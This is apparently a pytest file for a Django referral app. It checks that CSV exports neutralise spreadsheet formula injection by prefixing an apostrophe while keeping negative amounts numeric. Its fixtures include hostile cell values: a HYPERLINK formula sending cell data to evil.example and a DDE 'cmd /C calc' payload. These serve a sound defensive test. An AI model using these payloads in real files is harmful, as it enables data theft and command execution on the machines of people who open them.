"""Issue 15 item 10: every CSV export goes through one writer (`referrals.exports`) that writes a
cell a spreadsheet would evaluate (starting with =, +, -, @, a tab or a carriage return) as
text, with a leading apostrophe, while numbers, negative amounts included, stay numbers."""
import csv
import io
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model
from django.test import Client

from referrals.exports import safe_cell
from referrals.models import Account, Program
from tests.helpers import at, buy_credits, event, push, signup

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "  =1+1",
                                  "-cmd|' /C calc'!A0"])
def test_it_writes_formula_cells_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-12.34", "12.34", "-0.2468", "0", -5, Decimal("-1.50"), 42])
def test_it_keeps_numbers_negative_ones_too_as_numbers(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("text", ["alice", "Lifetime revenue share", "a-b", "1-2", "", "2026-12-01"])
def test_it_leaves_ordinary_text_alone(text):
    assert safe_cell(text) == text


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_earnings_csv_neutralises_a_hostile_programme_name_and_keeps_a_claw_back_a_number(vast, db):
    Program.objects.filter(key="vast-credit-commission").update(name=FORMULA)
    alice = signup("alice")
    signup("bob", code=alice.referral_code, when=at(1))
    purchase = buy_credits("bob", "100.00", when=at(2))
    push(event("payment.refunded", "bob", amount="40.00", refunds=purchase, when=at(3)))
    user = get_user_model().objects.create_user("alice@example.com", "alice@example.com", "Sturdy-pass-9911")
    Account.objects.filter(pk=alice.pk).update(user=user)
    client = Client()
    client.force_login(user, backend="django.contrib.auth.backends.ModelBackend")
    header, *rows, total = _rows(client.get("/dashboard/earnings.csv"))
    assert all(row[1] == "'" + FORMULA for row in rows)
    amounts = sorted(Decimal(row[3]) for row in rows)
    assert amounts[0] < 0 and str(amounts[0]).startswith("-")  # the claw-back: a plain negative number
    assert not any(row[3].startswith("'") for row in rows) and Decimal(total[3]) == sum(amounts)


def test_the_admin_export_neutralises_cells_of_every_changelist(runpod, admin_client):
    Account.objects.create(external_id="@SUM(1+1)*cmd", email="+1@example.com", signed_up_at=at(0))
    account = Account.objects.get(external_id="@SUM(1+1)*cmd")
    response = admin_client.post("/admin/referrals/account/", {"action": "export_csv",
                                                               "_selected_action": [account.pk]})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    header, row = _rows(response)
    assert row[header.index("external_id")] == "'@SUM(1+1)*cmd"
    assert row[header.index("email")] == "'+1@example.com"
